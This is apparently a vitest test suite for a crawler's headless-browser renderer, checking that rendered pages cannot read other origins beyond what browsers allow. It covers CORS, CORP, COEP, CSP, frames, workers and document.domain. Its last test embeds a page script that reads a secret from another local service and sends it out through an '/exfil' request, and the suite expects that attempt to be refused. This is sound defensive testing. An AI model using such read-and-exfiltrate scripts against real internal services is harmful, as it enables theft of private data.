/** What a rendered page may read of others: as much as in a browser. Each case leaves a link that says what came of it. */
import { openAt, temporaryDatabaseFile } from '@alluvium/database/testing'
import { afterAll, afterEach, expect, test } from 'vitest'
import { crawlMigrations } from '../src/ports/migrations.ts'
import { crawlClient } from '../testing/crawl-client.ts'
import { hasBrowser, testRenderer } from '../testing/test-renderer.ts'
import { sendHtml, testServer } from '../testing/test-server.ts'

const closing: (() => Promise<void>)[] = []
afterEach(async () => {
  for (const close of closing.splice(0).toReversed()) await close() // oxlint-disable-line no-await-in-loop -- in this order
})

const atTheEnd = new AsyncDisposableStack()
afterAll(() => atTheEnd.disposeAsync())
let running: ReturnType<typeof startService> | undefined
/** All crawl with one browser: to start it costs more than what they ask of it. */
const renderingService = () => (running ??= startService())

/** Every name is one of this machine. */
async function startService() {
  const { file, remove } = await temporaryDatabaseFile()
  atTheEnd.defer(remove)
  const database = await openAt({ engine: 'sqlite', file }, crawlMigrations)
  atTheEnd.defer(() => database.close())
  const client = await crawlClient(database, {
    renderer: testRenderer({ settleMs: 45_000 }), // a busy machine takes longer than the usual 15 s
    resolve: async () => [{ address: '127.0.0.1', family: 4 }],
  })
  atTheEnd.defer(() => client.close())
  return {
    /**
     * Crawls until the page has left a link. A Chromium that does not answer in time is ended and its page is read as it was
     * fetched, which a busy machine brings about and which says nothing of what a page may read.
     */
    async crawl(start_url: string, isSaid: () => boolean) {
      for (let turn = 0; turn < 3 && !isSaid(); turn += 1) {
        // oxlint-disable-next-line no-await-in-loop -- again only when the page was not rendered
        const path = await client.start({ start_url, render: true, request_delay_ms: 0, use_sitemaps: false })
        // oxlint-disable-next-line no-await-in-loop -- as above
        await expect.poll(() => client.status(path), { timeout: 100_000 }).toBe('completed')
      }
    },
  }
}

type Answered = Readonly<{ body: string; headers?: Record<string, string>; status?: number }>

/** A server of these pages, by whatever name it is asked. */
async function site(pages: Readonly<Record<string, string | Answered>>) {
  const made = await testServer(({ url = '' }, response) => {
    const page = pages[url]
    if (typeof page === 'string') return sendHtml(response, page)
    if (page !== undefined) return response.writeHead(page.status ?? 200, page.headers).end(page.body)
    return response.writeHead(404).end() // also what the links lead to: that they are followed says enough
  })
  closing.push(() => made.close())
  const { port } = new URL(made.origin)
  return {
    at: (host: string) => `http://${host}:${port}`,
    visited: () => [...made.counts().keys()],
    /** Whether a script of the page has left a link. */
    hasSaid: () => [...made.counts().keys()].some((path) => path.startsWith('/saw/')),
    /** What came of each case. */
    saw: () =>
      Object.fromEntries(
        [...made.counts().keys()].flatMap((path) => {
          const [, name, what] = /^\/saw\/([^/]+)\/(.*)$/.exec(path) ?? []
          return name === undefined || what === undefined ? [] : [[decodeURIComponent(name), decodeURIComponent(what)]]
        }),
      ),
  }
}

const script = (body: string, headers = {}) => ({ body, headers: { 'content-type': 'text/javascript', ...headers } })
const embeddable = (by: string) => ({ 'cross-origin-resource-policy': by })
const plain = (body: string, headers = {}) => ({ body, headers: { 'content-type': 'text/plain', ...headers } })
const moved = (location: string, headers = {}) => ({ body: '', status: 302, headers: { location, ...headers } })

const prelude = `
  const add = (name, what) =>
    document.body.insertAdjacentHTML('beforeend', '<a href="/saw/' + name + '/' + encodeURIComponent(what) + '">x</a>')
  const read = (name, url, options) =>
    fetch(url, options).then(async (answer) => add(name, answer.type + ' ' + (await answer.text())), () => add(name, 'refused'))
  const load = (name, tag, attributes, seen) => {
    const element = Object.assign(document.createElement(tag), attributes)
    const tell = () => { try { add(name, seen(element)) } catch { add(name, 'refused') } }
    element.onload = tell
    element.onerror = () => add(name, 'refused')
    document.body.append(element)
  }
  const page = (text) => '<body><script>(' + text + ')<' + '/script>'
  const asked = (url) => 'fetch("' + url + '").then((a) => a.text()).catch(() => "refused")'
  addEventListener('message', ({ data: [name, what] }) => add(name, what))
`

test.skipIf(!hasBrowser)('a page reads from other origins what they allow, and from its own everything', async () => {
  const service = await renderingService()
  const other = await site({
    '/closed': plain('secret'),
    '/star': plain('open', { 'access-control-allow-origin': '*' }),
    '/elsewhere': plain('secret', { 'access-control-allow-origin': 'http://friend.example' }),
    '/frame': '<body>secret',
    '/script': script('window.ran = "ran"'),
    '/style': { body: 'p { color: red }', headers: { 'content-type': 'text/css' } },
    '/corp-origin': script('window.corpOrigin = "ran"', embeddable('same-origin')),
    '/corp-site': script('window.corpSite = "ran"', embeddable('same-site')),
  })
  const b = other.at('b.site.example')
  const pages: Record<string, string | Answered> = {
    '/own': plain('own'),
    '/to-own': moved('/own'),
    '/to-closed': moved(`${b}/closed`),
    '/to-star': moved(`${b}/star`),
    '/framed': '<body>own',
    '/unframed': { body: '<body>own', headers: { 'content-type': 'text/html', 'x-frame-options': 'DENY' } },
  }
  const own = await site(pages)
  const a = own.at('a.site.example')
  Object.assign(pages, {
    '/': `<body><script>${prelude}
      read('own', '/own')
      read('own, redirected', '/to-own')
      read('another port', '${b.replace('b.site', 'a.site')}/closed')
      read('another name', '${own.at('localhost')}/own')
      read('the address', '${own.at('127.0.0.1')}/own')
      read('nobody allowed', '${b}/closed')
      read('somebody else allowed', '${b}/elsewhere')
      read('all allowed', '${b}/star')
      read('all allowed, with credentials', '${b}/star', { credentials: 'include' })
      read('redirected to nobody allowed', '/to-closed')
      read('redirected to all allowed', '/to-star')
      read('asked with a field', '${b}/star', { headers: { 'x-own': '1' } })
      read('put', '${b}/star', { method: 'PUT' })
      read('opaque', '${b}/closed', { mode: 'no-cors' })
      const xhr = new XMLHttpRequest()
      xhr.open('GET', '${b}/closed')
      xhr.onload = () => add('xhr', xhr.responseText)
      xhr.onerror = () => add('xhr', 'refused')
      xhr.send()
      load('script', 'script', { src: '${b}/script' }, () => window.ran)
      load('module', 'script', { src: '${b}/script', type: 'module' }, () => 'ran')
      load('style', 'link', { rel: 'stylesheet', href: '${b}/style' }, ({ sheet }) => sheet.cssRules.length)
      load('frame', 'iframe', { src: '${b}/frame' }, ({ contentWindow }) => contentWindow.document.body.innerText)
      load('own frame', 'iframe', { src: '/framed' }, ({ contentWindow }) => contentWindow.document.body.innerText)
      load('own frame that is none', 'iframe', { src: '/unframed' }, ({ contentWindow }) => contentWindow.document.body.innerText)
      load('local frame', 'iframe', { src: '${own.at('localhost')}/framed' }, ({ contentWindow }) => contentWindow.document.body.innerText)
      load('for its origin', 'script', { src: '${b}/corp-origin' }, () => window.corpOrigin)
      load('for its site', 'script', { src: '${b}/corp-site' }, () => window.corpSite)
      load('for another site', 'script', { src: '${other.at('elsewhere.example')}/corp-site' }, () => window.corpSite)
      const said = (name, url) => page(asked(url) + '.then((text) => parent.postMessage(["' + name + '", text], "*"))')
      load('x', 'iframe', { src: 'data:text/html,' + encodeURIComponent(said('from data', '${a}/own')) }, () => '')
      load('x', 'iframe', { srcdoc: said('from srcdoc', '${a}/own') }, () => '')
      load('x', 'iframe', { srcdoc: said('from a sandbox', '${a}/own'), sandbox: 'allow-scripts' }, () => '')
      load('x', 'iframe', { src: URL.createObjectURL(new Blob([said('from a blob', '${b}/closed')], { type: 'text/html' })) }, () => '')
      for (const [name, url] of [['from a worker', '${a}/own'], ['from a worker elsewhere', '${b}/closed']])
        new Worker(URL.createObjectURL(new Blob([asked(url) + '.then(postMessage)']))).onmessage = ({ data }) => add(name, data)
      try {
        document.domain = 'example'
        add('domain of everybody', document.domain)
      } catch {
        add('domain of everybody', 'refused')
      }
    </script>`,
  })
  await service.crawl(`${a}/`, own.hasSaid)
  const { x: _, ...saw } = own.saw()
  expect(saw).toEqual({
    own: 'basic own',
    'own, redirected': 'basic own',
    'another port': 'refused',
    'another name': 'refused',
    'the address': 'refused',
    'nobody allowed': 'refused',
    'somebody else allowed': 'refused',
    'all allowed': 'cors open',
    'all allowed, with credentials': 'refused',
    'redirected to nobody allowed': 'refused',
    'redirected to all allowed': 'cors open',
    'asked with a field': 'refused',
    put: 'refused',
    opaque: 'opaque ',
    xhr: 'refused',
    script: 'ran',
    module: 'refused',
    style: 'refused',
    frame: 'refused',
    'own frame': 'own',
    'own frame that is none': 'refused',
    'local frame': 'refused',
    'for its origin': 'refused',
    'for its site': 'ran',
    'for another site': 'refused',
    'domain of everybody': 'refused',
    'from data': 'refused',
    'from srcdoc': 'own',
    'from a sandbox': 'refused',
    'from a blob': 'refused',
    'from a worker': 'own',
    'from a worker elsewhere': 'refused',
  })
})

test.skipIf(!hasBrowser)(
  'a page that forbids it is embedded nowhere, and one that requires permission embeds nothing without it',
  async () => {
    const service = await renderingService()
    const other = await site({
      '/silent': script('window.silent = "ran"'),
      '/leave': script('window.leave = "ran"', embeddable('cross-origin')),
    })
    const b = other.at('b.example')
    const strict = `<body><script>${prelude}
    load('silent', 'script', { src: '${b}/silent' }, () => window.silent)
    load('with leave', 'script', { src: '${b}/leave' }, () => window.leave)
  </script>`
    const own = await site({
      '/': { body: strict, headers: { 'content-type': 'text/html', 'cross-origin-embedder-policy': 'require-corp' } },
    })
    await service.crawl(`${own.at('a.example')}/`, own.hasSaid)
    expect(own.saw()).toEqual({ silent: 'refused', 'with leave': 'ran' })
  },
)

test.skipIf(!hasBrowser)('a frame whose navigation returns nothing gains no permissions by it', async () => {
  const service = await renderingService()
  const other = await site({
    '/nothing': { body: '', status: 204 },
    '/star': plain('open', { 'access-control-allow-origin': '*' }),
    '/corp': script('window.corp = "ran"', embeddable('same-origin')),
  })
  const b = other.at('b.example')
  const own = await site({
    '/': `<body><script>${prelude}</script><iframe src="/frame"></iframe>`,
    '/frame': `<body><script type="module">
        for (let turn = 0; turn < 5; turn += 1) {
          location = '${b}/nothing'
          await fetch('${b}/star')
        }
        const element = Object.assign(document.createElement('script'), { src: '${b}/corp' })
        element.onload = () => parent.postMessage(['embedded', window.corp], '*')
        element.onerror = () => parent.postMessage(['embedded', 'refused'], '*')
        document.body.append(element)
      </script>`,
  })
  await service.crawl(`${own.at('a.example')}/`, own.hasSaid)
  expect(own.saw()).toEqual({ embedded: 'refused' })
})

test.skipIf(!hasBrowser)("a page's own policy decides which of its scripts run", async () => {
  const service = await renderingService()
  const own = await site({
    '/': {
      body: `<body><a href="/saw/page/came">x</a><script>${prelude} add('inline', 'ran')</script><script src="/own.js"></script>`,
      headers: { 'content-type': 'text/html', 'content-security-policy': "script-src 'self'" },
    },
    '/own.js': script(`${prelude} add('from its origin', 'ran')`),
  })
  await service.crawl(`${own.at('a.example')}/`, own.hasSaid)
  expect(own.saw()).toEqual({ page: 'came', 'from its origin': 'ran' })
})

const secret = 'TOP-SECRET payroll'

test.skipIf(!hasBrowser).each(['it asks for', 'it is redirected to'])(
  'a page cannot read another service of this machine that %s, and send that on',
  async (how) => {
    const service = await renderingService()
    const victim = await site({ '/secret.txt': plain(secret) })
    const pages: Record<string, string | Answered> = {}
    const own = await site(pages)
    const secretUrl = `${victim.at('127.0.0.1')}/secret.txt`
    pages['/to-secret'] = moved(secretUrl)
    const asked = how === 'it asks for' ? secretUrl : '/to-secret'
    pages['/'] = `<script>
      fetch('${asked}').then((answer) => answer.text()).then((text) => fetch('/exfil?' + encodeURIComponent(text)), () => fetch('/refused'))
    </script>`
    await service.crawl(`${own.at('127.0.0.1')}/`, () => own.visited().includes('/refused'))
    expect(own.visited()).toContain('/refused')
    expect(own.visited().filter((path) => path.startsWith('/exfil'))).toEqual([])
  },
)
